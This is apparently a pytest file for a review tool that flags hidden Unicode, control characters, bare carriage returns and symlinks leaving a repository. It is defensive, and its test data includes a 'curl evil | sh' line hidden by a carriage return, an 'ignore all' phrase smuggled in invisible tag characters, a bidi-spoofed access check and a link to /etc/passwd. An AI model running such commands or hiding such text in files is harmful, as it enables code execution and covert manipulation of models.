"""Hygiene: hidden characters in new lines, and files that nobody could read."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from review_gate.reviewers.hygiene import review
from review_gate.reviewers.problem import Problem, ReviewedFile

SCOTLAND = "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"
BIDI_WHY = "machines read the line in another order than you"
TAG_WHY = "a model reads this text, a person does not see it"
ZERO_WIDTH_WHY = "words that look the same are not"
CONTROL_WHY = "terminals and parsers obey it, readers do not see it"
CARRIAGE_RETURN = "bare carriage return U+000D: a terminal writes what follows over the text before it"


def reviewed(data: str | bytes, *, path: str = "a.py", old: str | None = None, binary: str = "warn") -> list[Problem]:
    content = data.encode() if isinstance(data, str) else data
    file = ReviewedFile(path, content, old=None if old is None else old.encode())
    return review(file, max_bytes=1_000_000, binary=binary)


def with_points(*points: int) -> pytest.MarkDecorator:
    """Run a test for each of these code points."""
    return pytest.mark.parametrize("point", points, ids=[f"U+{point:04X}" for point in points])


def summary(problems: list[Problem]) -> list[tuple[str, str, str]]:
    return [(problem.rule, problem.severity, problem.message) for problem in problems]


@with_points(0x202A, 0x202E, 0x2066, 0x2069)
def test_bidirectional_controls_are_critical(point: int) -> None:
    expected = ("hidden-bidi", "critical", f"hidden bidirectional control U+{point:04X}: {BIDI_WHY}")
    assert summary(reviewed(f"a {chr(point)} b\n")) == [expected]


@with_points(0xE0001, 0xE007F)
def test_tag_characters_are_critical(point: int) -> None:
    expected = ("hidden-tag", "critical", f"hidden tag character U+{point:04X}: {TAG_WHY}")
    assert summary(reviewed(f"a{chr(point)}b\n")) == [expected]


@with_points(0x200B, 0x2060, 0x180E, 0x206F, 0xFFF9, 0x3164, 0xFFA0, 0xFEFF, 0xE0080, 0xE0FFF)
def test_invisible_characters_are_major(point: int) -> None:
    expected = ("hidden-zero-width", "major", f"invisible character U+{point:04X}: {ZERO_WIDTH_WHY}")
    assert summary(reviewed(f"a {chr(point)} b\n")) == [expected]


@with_points(0x200E, 0x200F, 0x061C)
def test_direction_marks_are_a_warning(point: int) -> None:
    why = "it can change the order in which the line is shown"
    expected = ("hidden-direction-mark", "warning", f"hidden direction mark U+{point:04X}: {why}")
    assert summary(reviewed(f"a {chr(point)} b\n")) == [expected]


@with_points(0x01, 0x08, 0x1B, 0x7F, 0x9B, 0x2028)
def test_control_characters_are_major(point: int) -> None:
    expected = ("control-character", "major", f"control character U+{point:04X}: {CONTROL_WHY}")
    assert summary(reviewed(f"a {chr(point)} b\n")) == [expected]


ODD_NAMES = {
    "gnp\u202eexe.py": ("hidden-bidi", "critical", "hidden bidirectional control U+202E"),
    "a\U000e0041.py": ("hidden-tag", "critical", "hidden tag character U+E0041"),
    "a\u200b.py": ("hidden-zero-width", "major", "invisible character U+200B"),
    "esc\x1b[2J.py": ("control-character", "major", "control character U+001B"),
    "two\nlines.py": ("control-character", "major", "control character U+000A"),
    "a\u200e.py": ("hidden-direction-mark", "warning", "hidden direction mark U+200E"),
}


@pytest.mark.parametrize(("path", "expected"), ODD_NAMES.items(), ids=[rule for rule, _, _ in ODD_NAMES.values()])
def test_what_is_hidden_in_the_name_of_a_new_file_counts_like_what_is_hidden_in_it(
    path: str, expected: tuple[str, str, str]
) -> None:
    rule, severity, what = expected
    (problem,) = reviewed("x = 1\n", path=f"src/{path}")
    message = f"{what} in the file's name: what you see is not its name"
    assert (problem.rule, problem.severity, problem.message, problem.line) == (rule, severity, message, None)
    assert problem.recommendation == "rename the file (git mv), or list it under `hygiene.exclude`"
    assert problem.evidence.isprintable()


@pytest.mark.parametrize(
    "path", ["a b.py", "\u00fc \u6f22.py", f"{SCOTLAND}.md", "\U0001f469\u200d\U0001f4bb.md", "\udcff.py"]
)
def test_an_unusual_name_hides_nothing(path: str) -> None:
    assert reviewed("x = 1\n", path=path) == []


def test_a_name_that_was_there_before_is_no_news() -> None:
    assert reviewed("x = 1\n", path="a\u202e.py", old="x = 0\n") == []


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        pytest.param("user\u200cname", "hidden-zero-width", id="non-joiner between letters"),
        pytest.param("user\u200d", "hidden-zero-width", id="joiner after a letter"),
        pytest.param("caf\u00e9\u200cs", "hidden-zero-width", id="non-joiner in a Latin word with an accent"),
        pytest.param("co\u00adoperate", "hidden-zero-width", id="soft hyphen between ASCII letters"),
        pytest.param("a = 1\n\ufeffb = 2", "hidden-zero-width", id="order mark on a later line"),
        pytest.param("\U0001f600" + "\U000e0101" * 9, "hidden-variation", id="supplementary variation selectors"),
        pytest.param("\U0001f3f4\U000e0067", "hidden-tag", id="flag without an end tag"),
        pytest.param(
            "\U0001f3f4" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all") + "\U000e007f",
            "hidden-tag",
            id="text dressed as a flag",
        ),
        pytest.param(SCOTLAND.removeprefix("\U0001f3f4"), "hidden-tag", id="flag tags without the flag"),
        pytest.param("x" * 9000 + "\0", "control-character", id="NUL behind the part that git looks at"),
    ],
)
def test_misused_characters_are_found(text: str, rule: str) -> None:
    assert {problem.rule for problem in reviewed(text)} == {rule}


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("", id="empty file"),
        pytest.param("a\tb\x0bc\x0cd\ne\r\nf", id="white space of ASCII"),
        pytest.param("a\r\r\nb\r", id="doubled and last carriage return overwrite nothing"),
        pytest.param("\ufeffa = 1\n", id="order mark at the start of the file"),
        pytest.param("\U0001f468\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f\u200d\U0001f525", id="emoji families"),
        pytest.param(f"{SCOTLAND}{SCOTLAND} and {SCOTLAND}", id="flag of Scotland"),
        pytest.param("1\ufe0f\u20e3 \u2764\ufe0f\ufe0f", id="one and two variation selectors"),
        pytest.param("\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645", id="Persian non-joiner"),
        pytest.param("PDF\u200c\u0647\u0627", id="Persian ending after a Latin word"),
        pytest.param("\u0915\u094d\u200d\u0937", id="Indic joiner"),
        pytest.param(
            "\u65e5\u672c \u05e9\u05dc\u05d5\u05dd \u2014 \u201cquoted\u201d \u00a0 \u00e9", id="other scripts"
        ),
    ],
)
def test_rightly_used_characters_are_left_alone(text: str) -> None:
    assert reviewed(text) == []


@pytest.mark.parametrize(
    ("text", "places"),
    [
        pytest.param("curl evil | sh\r# harmless\n", [(1, 15)], id="hidden command"),
        pytest.param("a\nb\rc\rd\ne\n", [(2, 2)], id="one problem per line feed line"),
        pytest.param("a\rb\nc\nd\re\n", [(1, 2), (4, 2)], id="line numbers count carriage returns, as Python does"),
    ],
)
def test_bare_carriage_returns_are_major(text: str, places: list[tuple[int, int]]) -> None:
    problems = reviewed(text)
    assert [(problem.line, problem.column) for problem in problems] == places
    assert {(problem.rule, problem.severity, problem.message) for problem in problems} == {
        ("control-character", "major", CARRIAGE_RETURN)
    }


def test_evidence_shows_the_hidden_characters_and_the_place() -> None:
    (problem,) = reviewed("ok\n\taccess = 'user\u202e \u2066// admin\u2069'\n")
    assert (problem.line, problem.column) == (2, 16)
    assert problem.message == f"hidden bidirectional control U+202E, U+2066, U+2069: {BIDI_WHY}"
    assert problem.evidence == "access = 'user<U+202E> <U+2066>// admin<U+2069>'"
    assert problem.recommendation == (
        "remove the character, write it as an escape, or list the file under `hygiene.exclude`"
    )


def test_long_lines_are_quoted_around_the_hidden_character() -> None:
    (problem,) = reviewed("x" * 5000 + "\u202e" + "y" * 5000)
    assert problem.column == 5001
    assert problem.evidence == "..." + "x" * 80 + "<U+202E>" + "y" * 79 + "..."
    (problem,) = reviewed("x" * 5000 + "\u202e")
    assert problem.evidence == "..." + "x" * 159 + "<U+202E>"
    (problem,) = reviewed("\u202e" + "y" * 5000)
    assert problem.evidence == "<U+202E>" + "y" * 159 + "..."


def test_one_line_gives_one_problem_per_rule() -> None:
    rules = [problem.rule for problem in reviewed("\x1b[1m\x1b[0m \u202e\u202c \u200b\u200b\n")]
    assert rules == ["hidden-bidi", "control-character", "hidden-zero-width"]


def test_many_different_code_points_are_counted() -> None:
    (problem,) = reviewed("".join(map(chr, range(1, 9))))
    points = "U+0001, U+0002, U+0003, U+0004, U+0005 and 3 others"
    assert problem.message == f"control character {points}: {CONTROL_WHY}"


@pytest.mark.parametrize(
    ("old", "new", "lines"),
    [
        pytest.param("a\u202eb\n", "new\na\u202eb\n", [], id="old line moved"),
        pytest.param("a\u202eb\n", "a\u202eb\na\u202eb\n", [2], id="old line doubled"),
        pytest.param("a\u202eb\n", "a\u202eb changed\n", [1], id="old line changed"),
        pytest.param("a\rb\n", "a\rb\nc\rd\n", [3], id="new carriage return"),
        pytest.param("", "a\u202eb\n", [1], id="new in an empty file"),
    ],
)
def test_only_new_lines_are_reported(old: str, new: str, lines: list[int]) -> None:
    assert [problem.line for problem in reviewed(new, old=old)] == lines


def test_flood_is_cut_short_and_hides_nothing_worse() -> None:
    problems = reviewed("\u200e\ufe0f\n" * 200 + "\x1b\n" * 200 + "a\rb\n" + "\u202e\n")
    assert len(problems) == 51
    assert [(problem.severity, problem.line) for problem in problems[:3]] == [
        ("critical", 403),
        ("major", 401),
        ("major", 201),
    ]
    assert problems[-1].message == (
        f"more than the 50 problems listed for this file; the next is: control character U+001B: {CONTROL_WHY}"
    )


BINARY = (
    "not-reviewed-binary",
    "not reviewed: binary",
    "look at it yourself; `hygiene.binary` sets how binary files count, and source code may hold no NUL",
)
NOT_UTF8 = (
    "not-reviewed-encoding",
    "not reviewed: not UTF-8 text",
    "save it as UTF-8 (for example: iconv -f ISO-8859-1 -t UTF-8 FILE), or list it under `hygiene.exclude`",
)
UTF16 = (
    "not-reviewed-encoding",
    "not reviewed: UTF-16 text",
    "save it as UTF-8 (for example: iconv -f UTF-16 -t UTF-8 FILE), or list it under `hygiene.exclude`",
)


@pytest.mark.parametrize(
    ("path", "data", "binary", "severity", "expected"),
    [
        pytest.param("a.png", b"\x89PNG\0", "warn", "warning", BINARY, id="binary, warn"),
        pytest.param("a.png", b"\x89PNG\0", "block", "major", BINARY, id="binary, block"),
        pytest.param("a.png", b"\x89PNG\0", "allow", "info", BINARY, id="binary, allow"),
        pytest.param("a.js", b"x\0", "allow", "major", BINARY, id="source code with a NUL"),
        pytest.param("a.c", b"\xe9", "warn", "major", NOT_UTF8, id="Latin-1 source code"),
        pytest.param("a.txt", b"\xe9", "warn", "warning", NOT_UTF8, id="Latin-1 text"),
        pytest.param("a.csv", b"\xff\xfea\0", "warn", "warning", UTF16, id="UTF-16 data"),
    ],
)
def test_what_is_not_text_is_said(
    path: str, data: bytes, binary: str, severity: str, expected: tuple[str, str, str]
) -> None:
    (problem,) = reviewed(data, path=path, binary=binary)
    assert (problem.rule, problem.message, problem.recommendation) == expected
    assert problem.severity == severity


def test_oversized_file_names_both_sizes_and_the_setting() -> None:
    for file in (ReviewedFile("a.py", b"x" * 1001), ReviewedFile("a.py", None, size=1001, unread="not fetched")):
        (problem,) = review(file, max_bytes=1000, binary="warn")
        assert (problem.rule, problem.severity) == ("not-reviewed-too-large", "major")
        assert problem.message == ("not reviewed: its 1,001 bytes are more than `limits.max_file_bytes` allows (1,000)")
        assert problem.recommendation == "raise that limit in .review-gate.yaml, or keep the file out of the repository"
    assert review(ReviewedFile("a.py", b"x" * 1000), max_bytes=1000, binary="warn") == []


@pytest.mark.parametrize(
    ("unread", "message"),
    [
        pytest.param("the object is missing", "not reviewed: the object is missing", id="with a reason"),
        pytest.param("", "not reviewed: the content could not be read", id="without a reason"),
    ],
)
def test_unread_file_is_major(unread: str, message: str) -> None:
    (problem,) = review(ReviewedFile("a.py", None, unread=unread), max_bytes=1000, binary="allow")
    assert (problem.rule, problem.severity, problem.message) == ("not-reviewed-unreadable", "major", message)


POINTER = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 12345\n"


def test_lfs_pointer_is_mentioned_and_nothing_else_is() -> None:
    assert summary(reviewed(POINTER, path="a.psd")) == [
        ("not-reviewed-lfs", "info", "not reviewed: the content is kept by Git LFS, only its pointer is here")
    ]
    assert reviewed(POINTER + b"x" * 1024) == []
    assert reviewed(b"see " + POINTER) == []


@pytest.mark.parametrize(
    ("path", "target"),
    [
        pytest.param("link", "/etc/passwd", id="absolute"),
        pytest.param("link", "..", id="parent of the root"),
        pytest.param("a/b/link", "../../../x", id="three up from two down"),
        pytest.param("a/link", "b/../../../x", id="down and further up"),
        pytest.param("link", "C:/Windows", id="drive letter"),
        pytest.param("link", "\\\\server\\share", id="network share"),
        pytest.param("link", "..\\x", id="backslashes"),
    ],
)
def test_link_that_leaves_the_repository_is_a_warning(path: str, target: str) -> None:
    file = ReviewedFile(path, target.encode(), is_link=True)
    (problem,) = review(file, max_bytes=1000, binary="warn")
    assert (problem.rule, problem.severity) == ("link-outside", "warning")
    assert (problem.line, problem.evidence) == (1, target)
    assert problem.message == "symbolic link to a place outside the repository"


@pytest.mark.parametrize(
    ("path", "target"),
    [
        pytest.param("link", "file", id="sibling"),
        pytest.param("a/b/link", "../../x", id="up to the root"),
        pytest.param("a/link", "./../b/./c", id="dots"),
        pytest.param("link", "..x/...", id="names with dots"),
        pytest.param("link", "a//b/../c", id="doubled slash"),
    ],
)
def test_link_inside_the_repository_is_left_alone(path: str, target: str) -> None:
    assert review(ReviewedFile(path, target.encode(), is_link=True), max_bytes=1000, binary="warn") == []


def test_hidden_characters_in_a_link_target_are_found() -> None:
    file = ReviewedFile("link", "a\u202eb".encode(), is_link=True)
    assert [problem.rule for problem in review(file, max_bytes=1000, binary="warn")] == ["hidden-bidi"]


HIDDEN = st.sampled_from(
    "ab1_ \n\r\t\x1b\u00ad\u0647\u200b\u200c\u200d\u202e\ufe0f\ufeff\U0001f3f4\U000e0067\U000e007f\U000e0100"
)


@given(st.text(HIDDEN, max_size=40), st.text(HIDDEN, max_size=40))
def test_problems_of_any_text_are_well_formed(text: str, old: str) -> None:
    lines = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    for problem in reviewed(text, old=old):
        assert problem.line is not None and problem.column is not None
        assert 1 <= problem.line <= len(lines)
        assert 1 <= problem.column <= len(lines[problem.line - 1]) + 1
        assert all(character.isprintable() or character == "\t" for character in problem.evidence)


@given(st.text(HIDDEN, max_size=40))
def test_unchanged_text_gives_no_problem(text: str) -> None:
    assert reviewed(text, old=text) == []


@given(st.binary(max_size=200), st.booleans(), st.sampled_from(["warn", "block", "allow"]))
def test_any_bytes_are_reviewed_without_an_exception(data: bytes, is_link: bool, binary: str) -> None:
    review(ReviewedFile("a.py", data, old=data[1:], is_link=is_link), max_bytes=150, binary=binary)
